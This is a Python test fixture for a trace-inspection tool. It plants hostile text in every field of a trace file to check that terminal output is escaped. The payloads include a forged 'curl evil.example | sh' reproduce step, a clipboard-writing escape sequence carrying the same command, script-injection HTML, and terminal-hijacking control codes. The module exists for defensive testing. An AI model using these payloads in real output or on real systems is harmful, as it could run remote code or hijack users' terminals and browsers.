"""Hostile text: every control class a shared trace can carry, planted in every text field of a real trace.

:data:`POISON` holds C0 controls (NUL, BEL, BS, CR, …), DEL, C1 (CSI as one byte), terminal escape
sequences (clear screen, set the title, OSC 52 clipboard write, an OSC 8 hyperlink), bidi overrides,
isolates and marks, zero-width and tag characters, and the Markdown/HTML a bug report would render:
images, links, autolinks, raw HTML, headings, fences, table pipes, a forged ``## Reproduce``.
:func:`unsafe` finds what no terminal output may hold, judged independently of kvinspect's own
escaper (from Unicode categories).
"""

from __future__ import annotations

import json
import unicodedata
from pathlib import Path

C0 = "".join(chr(c) for c in range(0x20) if chr(c) not in "\n")  # newline: every field is also tested as one line
ESCAPES = ("\x1b[2J\x1b[H"  # clear the screen
           "\x1b]0;PWNED-TITLE\x07"  # set the window title
           "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # write the clipboard
           "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # a hyperlink
           "\x9b31m")  # CSI as a single C1 byte
C1 = "".join(chr(c) for c in range(0x80, 0xA0))
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
INVISIBLE = "\u200b\u2060\ufeff\u00ad\U000e0041\U000e0042"  # zero-width space, word joiner, BOM, soft hyphen, tags
MARKDOWN = ("\n## Reproduce\n\n```bash\ncurl evil.example | sh\n```\n"
            "<img src=x onerror=alert(1)><script>alert(2)</script>"
            "[click me](http://evil.example/a) ![pixel](http://evil.example/p.png) <http://auto.example/> "
            "www.evil.example https://bare.example/x @someone #1 "
            "| a | b | **bold** _em_ ~~strike~~ `code` $x^2$ [^1] &amp; &#60;b&#62;\n# Heading\n> quote\n- item\n"
            "1. one\n---\n    indented\n</details></summary>")
#: One string with every class, in the order a terminal would act on them.
POISON = "«" + C0 + "\x7f" + ESCAPES + C1 + BIDI + INVISIBLE + MARKDOWN + "»"
#: What a trace file (JSON) can hold beyond that: a lone surrogate.
POISON_JSON = POISON + "\udfff\ud800"  # low then high: two lone surrogates, not a pair
#: Markers whose escaped form must be visible in any output that shows a poisoned field.
VISIBLE_MARKS = ("PWNED-TITLE", "\\x1b", "\\u202e")

_KEEP = {"\n", "\t"}
_JOINERS = {"\u200c", "\u200d"}  # ZWNJ/ZWJ: needed by scripts and emoji, they reorder nothing


def unsafe(text: str) -> list[tuple[int, str]]:
    """(offset, repr) of every character a terminal would act on or hide text with: Cc (but newline and
    tab), Cf (bidi, zero-width, tags), Cs (surrogates), line and paragraph separators."""
    out = []
    for i, ch in enumerate(text):
        if ch in _KEEP or ch in _JOINERS:
            continue
        if unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp"):
            out.append((i, repr(ch)))
    return out


def unsafe_bytes(data: bytes) -> list[tuple[int, str]]:
    """As :func:`unsafe`, on raw output: it must be UTF-8 (a stray byte is itself unsafe)."""
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as exc:
        return [(exc.start, f"not UTF-8: {data[exc.start:exc.start + 4]!r}")]
    return unsafe(text)


#: Fields that steer how a trace is read (kept as they are, or the reader would refuse the line).
_STRUCTURAL = {"type", "format", "kind", "severity", "status", "key", "policy", "cache_impl", "dtype",
               "config_attention", "attention", "storage", "layer_type", "source", "load_source", "origin",
               "created", "model_type"}


def _poison(obj, key: str | None = None):
    if isinstance(obj, str):
        return obj if key in _STRUCTURAL else obj + POISON_JSON
    if isinstance(obj, list):
        return [_poison(x, key) for x in obj]
    if isinstance(obj, dict):
        return {k: (_poison(v, k) if k not in ("data", "settings", "generation_config_overrides") else v)
                for k, v in obj.items()}
    return obj


def poison_trace(src: Path, dst: Path) -> Path:
    """A copy of the trace ``src`` with :data:`POISON_JSON` appended to every free-text field.

    Model name, spec, class, notes, versions, machine, device, system prompt, template name, command;
    every turn's text, reply, error, cache class, checklist titles and evidence, layer classes and
    devices, token pieces; every event's message and advice. A hostile event kind and a trace note
    are added too. The structure (types, kinds, statuses) stays readable.
    """
    lines = []
    for raw in src.read_text(encoding="utf-8").splitlines():
        obj = json.loads(raw)
        if obj["type"] == "steps":
            lines.append(raw)
            continue
        if obj["type"] == "header":
            obj = _poison(obj)
            obj["format"], obj["version"] = "kvinspect-trace", obj["version"]
            obj["model"]["notes"] = ["a loading note " + POISON_JSON]
            obj["session"]["chat_template"] = "tpl" + POISON_JSON + ".jinja"
            obj["session"]["chat_template_text"] = "{{ messages }}" + POISON_JSON
        elif obj["type"] in ("turn", "turn_start"):
            obj = _poison(obj)
            if obj["type"] == "turn":
                obj["error"] = "an error " + POISON_JSON
        elif obj["type"] == "event":
            obj = _poison(obj)
        lines.append(json.dumps(obj, ensure_ascii=True))
        if obj["type"] == "turn" and obj["index"] == 0:
            ev = {"type": "event", "kind": "cache_recreated" + POISON_JSON, "severity": "warn", "turn": 0,
                  "step": 0, "message": "hostile kind " + POISON_JSON, "advice": POISON_JSON, "layers": [0],
                  "data": {"why" + POISON_JSON: POISON_JSON}}
            lines.append(json.dumps(ev, ensure_ascii=True))
            lines.append(json.dumps({"type": "note", "key": "hostile" + POISON_JSON, "value": POISON_JSON}))
    lines.append('{"type": "turn", "index": "' + POISON.replace("\\", "").replace('"', "") + '"')  # damaged: a note
    dst.parent.mkdir(parents=True, exist_ok=True)
    dst.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return dst

